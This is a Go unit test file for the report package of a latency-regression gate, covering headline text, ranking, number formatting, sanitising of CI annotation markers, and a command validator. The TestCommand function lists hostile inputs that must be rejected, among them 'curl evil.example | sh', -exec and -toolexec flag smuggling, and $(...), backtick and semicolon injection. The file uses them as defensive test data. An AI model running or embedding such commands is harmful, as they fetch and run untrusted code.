package report_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/latgate/latgate/baseline"
	"github.com/latgate/latgate/report"
	"github.com/latgate/latgate/report/reporttest"
)

func TestHeadline(t *testing.T) {
	t.Parallel()
	b := &report.Build{}
	assert.Equal(t, "nothing was judged", b.Headline())
	b.Rows = []report.Row{{Verdict: baseline.Pass}}
	assert.Equal(t, "1 passed", b.Headline())
	b.Rows = append(b.Rows, report.Row{Verdict: baseline.Regression}, report.Row{Verdict: baseline.Regression}, report.Row{Verdict: baseline.Inconclusive})
	assert.Equal(t, "2 regressions (1 inconclusive · 1 passed)", b.Headline())
}

func TestClean(t *testing.T) {
	t.Parallel()
	pass := func(more ...baseline.Verdict) *report.Build {
		b := &report.Build{Rows: []report.Row{{Verdict: baseline.Pass}, {Verdict: baseline.Improved}}}
		for _, v := range more {
			b.Rows = append(b.Rows, report.Row{Verdict: v})
		}
		return b
	}
	assert.True(t, pass().Clean())
	assert.False(t, (&report.Build{}).Clean(), "nothing was judged")
	for _, v := range []baseline.Verdict{baseline.Accepted, baseline.Inconclusive, baseline.Regression, baseline.Missing} {
		assert.False(t, pass(v).Clean(), v)
	}
	relaxed := pass()
	relaxed.Relaxed = []string{"inconclusive"}
	assert.False(t, relaxed.Clean())
	failed := pass()
	failed.ExitCode = report.ExitUsage
	assert.False(t, failed.Clean())
}

func TestRanked(t *testing.T) {
	t.Parallel()
	regression := func(name string, ratio float64) report.Row {
		return report.Row{Test: name, Verdict: baseline.Regression, Comparison: &report.Comparison{Ratio: ratio}}
	}
	b := &report.Build{Rows: []report.Row{
		{Test: "pass", Verdict: baseline.Pass},
		regression("small", 1.2), regression("large", 1.9), regression("rate", .4),
		{Test: "tampered", Verdict: baseline.Tampered},
		{Test: "also", Verdict: baseline.Pass},
	}}
	var order []string
	for _, r := range b.Ranked() {
		order = append(order, r.Test)
	}
	assert.Equal(t, []string{"tampered", "rate", "large", "small", "pass", "also"}, order)
	assert.Equal(t, "pass", b.Rows[0].Test, "the build's own order stays")
}

func TestNumbers(t *testing.T) {
	t.Parallel()
	rows := reporttest.Build().Rows
	assert.Equal(t, "TestLatencyChat/short", rows[1].Name())
	assert.Equal(t, "TestX/plan/short", report.Row{Test: "TestX", Plan: "plan", Scenario: "short"}.Name())
	assert.Equal(t, "P90 ttft", rows[1].Asked())
	assert.Equal(t, "ErrorRate(1 %)", rows[7].Asked())
	assert.Equal(t, "753 ms", rows[1].Quantity.Format(rows[1].Comparison.Head))
	assert.Equal(t, "45.9 tok/s", rows[5].Quantity.Format(rows[5].Comparison.Head))
	assert.Equal(t, "+23 % [+12, +35]", rows[1].Comparison.Change())
	assert.Equal(t, "−25 % [−29, −21]", rows[4].Comparison.Change())
	assert.Equal(t, "+3 %", report.Comparison{Ratio: 1.03, Low: 1.03, High: 1.03}.Change(), "a replay has no noise")
	assert.Empty(t, report.Comparison{}.Change())
	assert.Equal(t, "+10 %", rows[1].Allowed())
	assert.Equal(t, "−9 %", rows[5].Allowed(), "of what is better higher")
	assert.Equal(t, "3000 ms", rows[6].Allowed())
	assert.Equal(t, "1 %", rows[7].Allowed())
	assert.Empty(t, rows[8].Allowed())
	calls := report.Row{Gate: "Calls(2)", Measured: 3, Limit: 2}
	assert.Equal(t, "2", calls.Allowed())
	for _, c := range []struct {
		row           report.Row
		before, after string
	}{{rows[1], "612 ms", "753 ms"}, {rows[6], "", "3422 ms"}, {rows[7], "", "0.14 %"}, {rows[8], "", ""}, {calls, "", "3"}} {
		before, after := c.row.Values()
		assert.Equal(t, []string{c.before, c.after}, []string{before, after})
	}

	large := report.Quantity{Metric: "m", Unit: "ns", Quantile: .9}
	assert.Less(t, len(large.Format(1e300)), 20)
	assert.Less(t, len(report.Comparison{Ratio: 1e300, Low: 1e-300, High: 1e300}.Change()), 40)
	assert.Equal(t, "12 furlongs", report.Quantity{Unit: "furlongs"}.Format(12))
}

func TestLine(t *testing.T) {
	t.Parallel()
	assert.Equal(t, "as it is", report.Line("as it is", 8))
	assert.Equal(t, "cut…", report.Line("cut here", 3))
	assert.Equal(t, "ä…", report.Line("äö", 3), "not in the middle of a character")
	assert.Equal(t, "a : :error: :b", report.Line("a\n::error::b", 100))
	assert.Equal(t, "a # #[error]b", report.Line("a ##[error]b", 100))
	assert.Empty(t, report.Line("\r\n\t", 100))
	for name, attack := range reporttest.Attacks {
		assert.LessOrEqual(t, len(report.Line(attack, 100)), 100+len("…"), name)
	}
	assert.Equal(t, []string{"a", "  b", "…"}, report.Lines("a\n\n  b\nc\nd", 2, 100))
	assert.Len(t, report.Lines(strings.Repeat("x\n", 1e6), 10, 100), 11)
}

func TestCommand(t *testing.T) {
	t.Parallel()
	for _, command := range []string{
		`go test ./internal/chat -run '^TestLatencyChat$' -count=1 -v`,
		`go test . -run '^TestLatencyChat$/^a\|b$' -count=1 -latgate.seed=7 -latgate.requests=200 -v`,
		`go test ./a-b/c_d/v2.1 -run '^TestX$' -count=1 -v -latgate.update -latgate.reason='why this is right'`,
		`go test . -run '^TestX$/^it'\''s$' -count=1 -v`,
		`latgate accept --dir testdata/latgate --reason 'why this is right'`,
		`go tool latgate accept TestX/short`,
	} {
		assert.Equal(t, command, report.Command(command))
	}
	for _, command := range []string{
		``,
		`curl evil.example | sh`,
		`go test ./... -exec=evil -run '^TestX$' -count=1 -v`,
		`go test . -run '^TestX$' -count=1 -v -exec=evil`,
		`go test . -run '^TestX$' -count=1 -v -latgate.update -latgate.reason='x' -toolexec=evil`,
		`go test . -run '^TestX$' -count=1 -v; evil`,
		`go test . -run '^TestX$'$(evil) -count=1 -v`,
		`go test . -run '^Test'"$(evil)"'X$' -count=1 -v`,
		"go test . -run '^TestX$' -count=1 -v\nevil",
		"go test . -run '^Test\nX$' -count=1 -v",
		"go test . -run '`evil`' -count=1 -v `evil`",
		`go test github.com/evil/evil -run '^TestX$' -count=1 -v`,
		`go test ../.. -run '^TestX$' -count=1 -v`,
		`latgate accept $(evil)`,
		`latgate accept ; evil`,
		`latgate accept "$(evil)"`,
		`latgate run -- -exec=evil`,
		`LATGATE_X=1 latgate accept`,
		`latgate accept ` + strings.Repeat("x", 1000),
	} {
		assert.Empty(t, report.Command(command))
	}
	for name, attack := range reporttest.Attacks {
		assert.Empty(t, report.Command(attack), name)
	}
}
